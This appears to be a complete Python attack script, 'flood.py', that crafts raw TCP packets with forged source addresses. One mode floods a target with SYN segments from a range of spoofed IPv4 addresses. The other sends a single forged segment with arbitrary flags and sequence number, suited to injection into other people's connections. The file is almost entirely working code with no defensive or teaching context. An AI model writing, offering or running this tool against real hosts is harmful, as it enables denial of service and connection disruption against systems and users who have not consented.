# SPDX-License-Identifier: Apache-2.0
"""A program that only imports the standard library: TCP segments with forged sources.

flood.py many HOST PORT FIRST COUNT [SOURCE_PORT]  one SYN from each of COUNT IPv4 addresses
flood.py one HOST PORT SOURCE PORT FLAGS NUMBER    one segment with these flags and this number
"""

import socket
import struct
import sys

SOURCE_PORT, SYN = 4000, 2
TCP = socket.IPPROTO_TCP


def checksum(words: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(
    source: bytes, destination: bytes, ports: tuple[int, int], flags: int, seq: int
) -> bytes:
    """With an IPv4 header whose length, id and checksum the kernel fills in (raw(7)), or IPv6's."""

    def header(check: int) -> bytes:
        return struct.pack("!HHIIBBHHH", *ports, seq, 0, 5 << 4, flags, 64240, check, 0)

    pseudo = source + destination + struct.pack("!HH", TCP, len(header(0)))
    if len(source) == 4:
        ip = struct.pack("!BBHHHBBH", 4 << 4 | 5, 0, 0, 0, 0, 64, TCP, 0)
    else:
        ip = struct.pack("!IHBB", 6 << 28, len(header(0)), TCP, 64)
    return ip + source + destination + header(checksum(pseudo + header(0)))


def many(host: str, port: str, first: str, count: str, own: str = str(SOURCE_PORT)) -> None:
    ports, destination = (int(own), int(port)), socket.inet_aton(host)
    (start,) = struct.unpack("!I", socket.inet_aton(first))
    with raw(socket.AF_INET) as sender:
        for number in range(start, start + int(count)):
            source = struct.pack("!I", number)
            sender.sendto(packet(source, destination, ports, SYN, 1000), (host, 0))


def one(host: str, port: str, source: str, source_port: str, flags: str, number: str) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    ends = (socket.inet_pton(family, end) for end in (source, host))
    forged = packet(*ends, (int(source_port), int(port)), int(flags), int(number))
    with raw(family) as sender:
        sender.sendto(forged, (host, 0))


def raw(family: int) -> socket.socket:
    return socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


if __name__ == "__main__":
    {"many": many, "one": one}[sys.argv[1]](*sys.argv[2:])
